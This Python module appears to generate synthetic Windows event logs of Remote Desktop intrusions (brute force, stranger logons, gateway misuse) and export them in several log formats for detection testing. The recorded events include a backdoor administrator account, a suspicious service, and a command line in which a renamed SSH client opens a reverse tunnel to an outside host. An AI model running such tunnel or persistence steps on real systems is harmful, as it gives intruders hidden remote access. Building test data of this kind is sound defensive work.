"""Whole stories over Remote Desktop as the records of Windows hosts, and the forms in which people export them.

An event is written once and rendered as winlogbeat, evtx_dump and EvtxECmd (JSON and CSV) would, and as XML. Names and addresses are ours.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, NamedTuple
from xml.sax.saxutils import escape

SECURITY = ("Security", "Microsoft-Windows-Security-Auditing")
SYSTEM = ("System", "Service Control Manager")
CORE = ("Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational", "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS")
_TS = "Microsoft-Windows-TerminalServices-"
MANAGER = (f"{_TS}RemoteConnectionManager/Operational", f"{_TS}RemoteConnectionManager")
SESSIONS = (f"{_TS}LocalSessionManager/Operational", f"{_TS}LocalSessionManager")
GATEWAY = (f"{_TS}Gateway/Operational", f"{_TS}Gateway")
NOBODY = {"SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0"}


class Event(NamedTuple):
    """One event: when, where, which, and its data."""

    time: datetime
    channel: str
    provider: str
    id: int
    host: str
    data: dict[str, str]
    number: int

    @property
    def is_user_data(self) -> bool:
        """Whether the provider writes UserData."""
        return self.channel.startswith(_TS)


@dataclass
class Story:
    """Events in the order of time; ``domain`` and ``sid`` are those of the people in it."""

    now: datetime
    domain: str
    sid: str
    events: list[Event] = field(default_factory=list)

    def go(self, **span: float) -> None:
        """Let time pass."""
        self.now += timedelta(**span)

    def add(self, log: tuple[str, str], number: int, host: str, **data: str) -> None:
        """Write an event."""
        self.events.append(Event(self.now, *log, number, host, data, 1000 + len(self.events)))
        self.go(milliseconds=137)

    def refused(self, host: str, user: str, address: str, station: str) -> None:
        """Write a wrong password under NLA."""
        self.add(CORE, 131, host, ConnType="TCP", ClientIP=f"[{address}]:50211")
        self.add(CORE, 140, host, IPString=address)
        target = {"TargetUserSid": "S-1-0-0", "TargetUserName": user, "TargetDomainName": "", "Status": "0xc000006d", "SubStatus": "0xc000006a"}
        how = {"LogonType": "3", "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM", "WorkstationName": station}
        self.add(SECURITY, 4625, host, **NOBODY, **target, **how, IpAddress=address, IpPort="0")

    def logon(self, host: str, user: str, address: str, kind: str, session: int, station: str) -> None:
        """Write a logon of the Security log."""
        target = {"TargetUserSid": self.sid, "TargetUserName": user, "TargetDomainName": self.domain, "TargetLogonId": hex(session)}
        how = {"LogonType": kind, "LogonProcessName": "User32 " if kind == "10" else "NtLmSsp ", "AuthenticationPackageName": "NTLM"}
        self.add(SECURITY, 4624, host, **NOBODY, **target, **how, WorkstationName=station, IpAddress=address, IpPort="0", TargetLinkedLogonId="0x0")

    def enter(self, host: str, user: str, address: str, session: int, station: str) -> None:
        """Write a logon over RDP as all its channels do."""
        self.add(CORE, 131, host, ConnType="TCP", ClientIP=f"[{address}]:51873")
        self.logon(host, user, address, "3", session, station)
        self.add(MANAGER, 1149, host, Param1=user, Param2=self.domain, Param3=address)
        self.logon(host, user, address, "10", session + 16, host.upper())
        for number in (21, 22):
            self.add(SESSIONS, number, host, User=f"{self.domain}\\{user}", SessionID="2", Address=address)

    def leave(self, host: str, user: str, address: str, session: int, station: str) -> None:
        """Write the end of a session over RDP."""
        self.add(SESSIONS, 24, host, User=f"{self.domain}\\{user}", SessionID="2", Address=address)
        who = {"AccountName": user, "AccountDomain": self.domain, "LogonID": hex(session + 16)}
        self.add(SECURITY, 4779, host, **who, SessionName="RDP-Tcp#3", ClientName=station, ClientAddress=address)

    def doors(self, host: str, user: str, session: int, made: str) -> None:
        """Write an account made and put among the administrators, and a service."""
        subject = {"SubjectUserSid": self.sid, "SubjectUserName": user, "SubjectDomainName": self.domain, "SubjectLogonId": hex(session + 16)}
        new = f"{self.sid.rpartition('-')[0]}-1109"
        self.add(SECURITY, 4720, host, TargetUserName=made, TargetDomainName=host.upper(), TargetSid=new, **subject)
        group = {"TargetUserName": "Administrators", "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544"}
        self.add(SECURITY, 4732, host, MemberName="-", MemberSid=new, **group, **subject)
        service = {"ServiceName": "HelperSvc", "ImagePath": "C:\\ProgramData\\h.exe", "ServiceType": "user mode service", "StartType": "auto start"}
        self.add(SYSTEM, 7045, host, **service)


def virtual_machine(*, entered: bool) -> list[Event]:
    """A cloud VM: its owner comes every day; a stranger fails once and, where *entered*, is in and makes doors."""
    story, host, own, stranger = Story(datetime(2026, 3, 2, 6, tzinfo=UTC), "VM01", "S-1-5-21-1-2-3-500"), "vm01", "198.51.100.10", "203.0.113.77"
    for day in range(6):
        story.enter(host, "owner", own, 0x51000 + day * 0x400, "LAPTOP-ANN")
        story.go(minutes=30)
        story.leave(host, "owner", own, 0x51000 + day * 0x400, "LAPTOP-ANN")
        story.go(hours=23)
    story.refused(host, "owner", stranger, "WIN-9F2K")
    story.go(seconds=41)
    if entered:
        story.enter(host, "owner", stranger, 0x99000, "WIN-9F2K")
        story.go(minutes=2)
        story.doors(host, "owner", 0x99000, "support1")
        story.leave(host, "owner", stranger, 0x99000, "WIN-9F2K")
    return story.events


def desktop(*, entered: bool) -> list[Event]:
    """An exposed desktop: days of guesses from many addresses; one guesses on and, where *entered*, is in."""
    story, host, stranger = Story(datetime(2026, 2, 1, tzinfo=UTC), "DESK01", "S-1-5-21-1-2-3-1001"), "desk01", "203.0.113.37"
    names = ("administrator", "admin", "user", "test", "scan", "reception", "backup")
    for number in range(24 * 10):
        story.refused(host, names[number % 7], f"192.0.2.{60 + number * 7 % 40}", "kali")
        story.go(minutes=59)
    if entered:
        for _ in range(25):
            story.refused(host, "reception", stranger, "WIN-SRV")
            story.go(seconds=7)
        story.enter(host, "reception", stranger, 0x99000, "WIN-SRV")
        story.go(minutes=3)
        story.doors(host, "reception", 0x99000, "help")
    return story.events


def gateway(*, entered: bool) -> list[Event]:
    """An RD Gateway: people come through it to a host; a stranger fails at it and, where *entered*, comes through as one of them."""
    story, front, host, inner = Story(datetime(2026, 3, 2, 7, tzinfo=UTC), "CORP", "S-1-5-21-9-8-7-1105"), "rdgw01", "app01", "10.0.0.20"

    def through(user: str, address: str, session: int, station: str, made: str = "") -> None:
        who = {"Username": f"CORP\\{user}", "IpAddress": address, "AuthType": "NTLM", "ErrorCode": "0"}
        story.logon(front, user, address, "3", session - 0x100, station)
        story.add(GATEWAY, 200, front, **who, Resource="", ConnectionProtocol="HTTP")
        story.add(GATEWAY, 300, front, **who, Resource=host, ConnectionProtocol="HTTP")
        for transport in ("HTTP", "UDP"):
            story.add(GATEWAY, 302, front, **who, Resource=host, ConnectionProtocol=transport)
        story.go(seconds=2)
        story.enter(host, user, inner, session, station)
        story.go(minutes=3)
        if made:
            story.doors(host, user, session, made)
        story.go(minutes=20)
        story.leave(host, user, inner, session, station)
        sizes = {"BytesReceived": "4200000", "BytesTransfered": "91000", "SessionDuration": "1380"}
        story.add(GATEWAY, 303, front, **who, Resource=host, ConnectionProtocol="HTTP", **sizes)

    for day in range(6):
        through("jdoe", "198.51.100.44", 0x200000 + day * 0x8000, "NB-JDOE")
        through("mmiller", "198.51.100.61", 0x204000 + day * 0x8000, "NB-MM")
        story.go(hours=22)
    for _ in range(3):
        story.refused(front, "jdoe", "203.0.113.99", "WIN-X1")
        story.go(seconds=31)
    if entered:
        through("jdoe", "203.0.113.99", 0x900000, "WIN-X1", "svc_bkp")
    return story.events


def tunnel() -> list[Event]:
    """A web server: the account of the server digs a tunnel with a renamed client; an account made the same way comes through it."""
    story, host = Story(datetime(2026, 3, 2, 22, tzinfo=UTC), "WEB03", "S-1-5-21-1-2-3-1109"), "web03"
    server = {"SubjectUserSid": "S-1-5-18", "SubjectUserName": "WEB03$", "SubjectDomainName": "CORP", "SubjectLogonId": "0x3e7"}
    command = "C:\\Windows\\Temp\\svchost.exe -ssh -P 443 -N -R 33899:127.0.0.1:3389 root@203.0.113.9 -pw x"
    story.add(SECURITY, 4688, host, **server, NewProcessName="C:\\Windows\\Temp\\svchost.exe", CommandLine=command, ParentProcessName="w3wp.exe")
    story.go(minutes=2)
    story.add(SECURITY, 4720, host, TargetUserName="helper", TargetDomainName="WEB03", TargetSid="S-1-5-21-1-2-3-1109", **server)
    story.go(minutes=5)
    story.enter(host, "helper", "127.0.0.1", 0x99000, "WIN-9F2K")
    return story.events


def _iso(event: Event, end: str = "Z") -> str:
    return event.time.strftime("%Y-%m-%dT%H:%M:%S.%f") + end


def winlogbeat(event: Event) -> str:
    """Render as winlogbeat 8."""
    log: dict[str, Any] = {"channel": event.channel, "provider_name": event.provider, "event_id": str(event.id), "record_id": event.number}
    log |= {"computer_name": event.host, "api": "wineventlog", "user_data" if event.is_user_data else "event_data": event.data}
    return json.dumps({"@timestamp": _iso(event), "event": {"code": str(event.id), "provider": event.provider}, "winlog": log})


def evtx_dump(event: Event) -> str:
    """Render as evtx_dump."""
    system: dict[str, Any] = {"Provider": {"#attributes": {"Name": event.provider}}, "EventID": event.id, "EventRecordID": event.number}
    system |= {"TimeCreated": {"#attributes": {"SystemTime": _iso(event)}}, "Channel": event.channel, "Computer": event.host}
    data = {"UserData": {"EventXML": event.data}} if event.is_user_data else {"EventData": event.data}
    return json.dumps({"Event": {"System": system, **data}})


def _ecmd(event: Event) -> dict[str, Any]:
    named = [{"@Name": name, "#text": value} for name, value in event.data.items()]
    payload = {"UserData": {"EventXML": event.data}} if event.is_user_data else {"EventData": {"Data": named}}
    row: dict[str, Any] = {"EventRecordId": str(event.number), "TimeCreated": _iso(event, "+00:00"), "EventId": event.id, "Provider": event.provider}
    return row | {"Channel": event.channel, "Computer": event.host, "ChunkNumber": 0, "Payload": json.dumps(payload), "SourceFile": "x.evtx"}


def _xml(event: Event) -> str:
    inner = "".join(f"<{name}>{escape(value)}</{name}>" for name, value in event.data.items())
    named = "".join(f'<Data Name="{name}">{escape(value)}</Data>' for name, value in event.data.items())
    data = f'<UserData><EventXML xmlns="Event_NS">{inner}</EventXML></UserData>' if event.is_user_data else f"<EventData>{named}</EventData>"
    system = f'<Provider Name="{event.provider}"/><EventID>{event.id}</EventID><TimeCreated SystemTime="{_iso(event)}"/>'
    system += f"<EventRecordID>{event.number}</EventRecordID><Channel>{event.channel}</Channel><Computer>{event.host}</Computer>"
    return f'<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>{system}</System>{data}</Event>'


def _csv(events: list[Event]) -> str:
    out = io.StringIO()
    rows = [_ecmd(event) for event in events]
    writer = csv.DictWriter(out, list(rows[0]))
    writer.writeheader()
    writer.writerows(row | {"TimeCreated": event.time.strftime("%Y-%m-%d %H:%M:%S.%f0")} for row, event in zip(rows, events, strict=True))
    return out.getvalue()


FORMS: dict[str, tuple[str, Callable[[list[Event]], str]]] = {
    "winlogbeat": ("ndjson", lambda events: "\n".join(map(winlogbeat, events)) + "\n"),
    "evtx_dump": ("json", lambda events: "\n".join(map(evtx_dump, events)) + "\n"),
    "EvtxECmd JSON": ("json", lambda events: "\ufeff" + "\r\n".join(json.dumps(_ecmd(event)) for event in events) + "\r\n"),
    "EvtxECmd CSV": ("csv", lambda events: "\ufeff" + _csv(events)),
    "XML": ("xml", lambda events: '<?xml version="1.0" encoding="utf-8"?>\n<Events>' + "".join(map(_xml, events)) + "</Events>\n"),
}
"""How each form ends in a name, and what writes it; winlogbeat keeps all in one file, the others one for each channel."""


def write(events: list[Event], form: str, folder: Path) -> None:
    """Write *events* into *folder* as *form* would."""
    ending, render = FORMS[form]
    by_file: dict[str, list[Event]] = {}
    for event in events:
        name = "all" if form in ("winlogbeat", "EvtxECmd CSV") else event.channel.replace("/", "%4")
        by_file.setdefault(name, []).append(event)
    for name, part in by_file.items():
        (folder / f"{name}.{ending}").write_text(render(part), encoding="utf-8")
